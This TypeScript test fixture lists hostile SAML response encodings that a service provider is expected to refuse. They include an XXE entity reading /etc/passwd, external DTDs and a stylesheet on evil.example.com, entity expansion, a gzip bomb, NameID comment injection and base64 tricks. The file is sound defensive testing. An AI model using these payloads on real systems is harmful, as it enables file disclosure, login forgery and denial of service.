// Answers that two readers read differently, or that are made to hurt whoever reads them.
import { deflateRawSync, gzipSync } from 'node:zlib';
import { USER } from '../../../support/saml/response.ts';
import { type Forgery, replaced } from './forgery.ts';

const form = (parameters: readonly (readonly [string, string])[]) =>
  new URLSearchParams(parameters.map(([name, value]) => [name, value]));
const declared = (encoding: string) => (xml: string) => `<?xml version="1.0" encoding="${encoding}"?>${xml}`;
const document = (declaration: string) => (xml: string) => `<!DOCTYPE ${declaration}>${xml}`;
const nameId = `<saml:NameID>${USER}</saml:NameID>`;

export const encodings: readonly Forgery[] = [
  {
    name: 'a bare document type',
    refused: 'ResponseNotPlain',
    says: 'document type',
    after: document('samlp:Response'),
    libraryTakesIt: true,
  },
  {
    name: 'an external entity',
    refused: 'ResponseNotPlain',
    says: 'document type',
    after: (xml) => replaced(document('r [<!ENTITY x SYSTEM "file:///etc/passwd">]')(xml), USER, '&x;'),
  },
  {
    name: 'an external parameter entity',
    refused: 'ResponseNotPlain',
    after: document('r [<!ENTITY % x SYSTEM "https://evil.example.com/x.dtd"> %x;]'),
  },
  {
    name: 'an external document type',
    refused: 'ResponseNotPlain',
    after: document('r SYSTEM "https://evil.example.com/x.dtd"'),
  },
  {
    name: 'entities that multiply',
    refused: 'ResponseNotPlain',
    after: (xml) =>
      replaced(
        document('r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;">]')(xml),
        USER,
        '&b;',
      ),
  },
  {
    name: 'an attribute that a document type gives a default',
    refused: 'ResponseNotPlain',
    after: document('r [<!ATTLIST saml:Assertion ID CDATA "_evil">]'),
  },
  {
    name: 'a document type that comes second',
    refused: 'ResponseNotPlain',
    after: (xml) => `<?xml version="1.0"?>\n${document('r')(xml)}`,
  },
  {
    name: 'an entity that was never declared',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, USER, '&user;'),
  },
  {
    name: 'an entity in an attribute',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, 'Version="2.0"', 'Version="&v;"'),
  },
  {
    name: 'a comment in the NameID',
    refused: 'ResponseNotPlain',
    says: 'comment',
    answering: { fields: { nameId: `${USER}.evil.example.com` } },
    after: (xml) => replaced(xml, `${USER}.evil`, `${USER}<!---->.evil`),
    libraryTakesIt: true,
  },
  {
    name: 'a comment in an attribute’s value',
    refused: 'ResponseNotPlain',
    after: (xml) => replaced(xml, '>sysadmin<', '>sys<!-- -->admin<'),
    libraryTakesIt: true,
  },
  {
    name: 'a comment anywhere',
    refused: 'ResponseNotPlain',
    after: (xml) => `<!-- -->${xml}`,
    libraryTakesIt: true,
  },
  {
    name: 'a processing instruction in the NameID',
    refused: 'ResponseNotPlain',
    after: (xml) => replaced(xml, USER, `${USER}<?x?>.example.com`),
  },
  {
    name: 'a processing instruction before the response',
    refused: 'ResponseNotPlain',
    after: (xml) => `<?xml-stylesheet href="https://evil.example.com/x.xsl"?>${xml}`,
    libraryTakesIt: true,
  },
  {
    name: 'a CDATA section in the NameID',
    refused: 'ResponseNotPlain',
    after: (xml) => replaced(xml, USER, `<![CDATA[${USER}]]>`),
    libraryTakesIt: true,
  },
  {
    name: 'UTF-16',
    refused: 'ResponseMalformed',
    says: 'UTF-8',
    after: (xml) => Buffer.from(`\ufeff${xml}`, 'utf16le'),
  },
  {
    name: 'UTF-16 without a byte order mark',
    refused: 'ResponseMalformed',
    after: (xml) => Buffer.from(xml, 'utf16le'),
  },
  {
    name: 'UTF-7, as it is declared',
    refused: 'ResponseMalformed',
    says: 'UTF-8',
    after: (xml) => declared('UTF-7')(replaced(xml, USER, '+AG0-allory')),
  },
  {
    name: 'another encoding, as it is declared',
    refused: 'ResponseMalformed',
    after: declared('ISO-8859-1'),
    libraryTakesIt: true,
  },
  {
    name: 'XML 1.1',
    refused: 'ResponseMalformed',
    after: (xml) => `<?xml version="1.1"?>${xml}`,
    libraryTakesIt: true,
  },
  { name: 'a byte order mark', refused: 'ResponseMalformed', after: (xml) => `\ufeff${xml}` },
  {
    name: 'bytes that are no UTF-8',
    refused: 'ResponseMalformed',
    says: 'UTF-8',
    after: (xml) =>
      Buffer.concat([Buffer.from(xml.slice(0, -20)), Buffer.from([0xc0, 0x80]), Buffer.from(xml.slice(-20))]),
  },
  {
    name: 'a character that XML does not have',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, USER, `${USER}&#0;`),
  },
  {
    name: 'an attribute that stands twice in an element',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, 'Version="2.0"', 'Version="2.0" Version="2.0"'),
  },
  {
    name: 'an attribute that stands twice, by two prefixes of one namespace',
    refused: 'ResponseMalformed',
    after: (xml) =>
      replaced(xml, '<saml:Subject>', '<saml:Subject xmlns:a="urn:x" xmlns:b="urn:x" a:id="_1" b:id="_2">'),
  },
  {
    name: 'a prefix that is bound to nothing',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, nameId, nameId.replaceAll('saml:', 'evil:')),
  },
  {
    name: 'an unquoted attribute',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, 'Version="2.0"', 'Version=2.0'),
  },
  { name: 'a second root', refused: 'ResponseMalformed', after: (xml) => `${xml}${xml}` },
  { name: 'text after the root', refused: 'ResponseMalformed', after: (xml) => `${xml}evil` },
  { name: 'a response that ends early', refused: 'ResponseMalformed', after: (xml) => xml.slice(0, -10) },
  {
    name: 'the response’s name in another namespace',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, 'tc:SAML:2.0:protocol', 'tc:SAML:1.1:protocol'),
  },
  {
    name: 'the status in another namespace',
    refused: 'ResponseMalformed',
    after: (xml) => replaced(xml, '<samlp:StatusCode', '<x:StatusCode xmlns:x="urn:evil"'),
  },
  { name: 'nothing', refused: 'ResponseMalformed', after: () => '' },
  { name: 'no XML', refused: 'ResponseMalformed', after: () => 'not XML' },
  { name: 'HTML', refused: 'ResponseMalformed', after: () => '<html><body>Sign in</body></html>' },
  { name: 'another document', refused: 'ResponseMalformed', after: () => '<a xmlns="urn:example"/>' },
  {
    name: 'too many elements',
    refused: 'ResponseMalformed',
    says: 'elements',
    after: (xml) => replaced(xml, '</samlp:Status>', `${'<a/>'.repeat(4_001)}</samlp:Status>`),
  },
  {
    name: 'elements too deep',
    refused: 'ResponseMalformed',
    says: 'deep',
    after: (xml) =>
      replaced(xml, '</samlp:Status>', `${'<a>'.repeat(40)}${'</a>'.repeat(40)}</samlp:Status>`),
  },
  {
    name: 'too many attributes',
    refused: 'ResponseMalformed',
    says: 'attributes',
    after: (xml) =>
      replaced(
        xml,
        '<samlp:Status>',
        `<samlp:Status ${Array.from({ length: 33 }, (_, index) => `a${index}=""`).join(' ')}>`,
      ),
  },
  {
    name: 'an answer that is too large',
    refused: 'ResponseTooLarge',
    after: (xml) => xml + ' '.repeat(200_000),
  },
  {
    name: 'a compressed answer, as another binding has it',
    refused: 'ResponseMalformed',
    after: (xml) => deflateRawSync(xml),
  },
  { name: 'a bomb', refused: 'ResponseMalformed', after: () => gzipSync(Buffer.alloc(50_000_000)) },
  { name: 'no answer', refused: 'ResponseMalformed', form: () => form([]) },
  { name: 'an empty answer', refused: 'ResponseMalformed', form: () => form([['SAMLResponse', '']]) },
  {
    name: 'two answers',
    refused: 'ResponseMalformed',
    form: (base64) =>
      form([
        ['SAMLResponse', base64],
        ['SAMLResponse', base64],
      ]),
  },
  {
    name: 'an answer by another name',
    refused: 'ResponseMalformed',
    form: (base64) => form([['SAMLRequest', base64]]),
  },
  {
    name: 'base64 with characters that some decoders pass over',
    refused: 'ResponseMalformed',
    says: 'base64',
    form: (base64) => form([['SAMLResponse', `${base64.slice(0, 8)}%${base64.slice(8)}`]]),
  },
  {
    name: 'base64url',
    refused: 'ResponseMalformed',
    says: 'base64',
    form: (base64) => form([['SAMLResponse', `${base64.slice(0, -4)}_-_-`]]),
  },
  {
    name: 'base64 without its end',
    refused: 'ResponseMalformed',
    says: 'base64',
    form: (base64) => form([['SAMLResponse', base64.slice(0, -1)]]),
  },
  {
    name: 'base64 whose last bits are not zero',
    refused: 'ResponseMalformed',
    says: 'base64',
    form: () => form([['SAMLResponse', 'PGEvPh==']]),
  },
  {
    name: 'base64 with a text after its end',
    refused: 'ResponseMalformed',
    says: 'base64',
    form: (base64) => form([['SAMLResponse', `${base64}====${base64}`]]),
  },
];
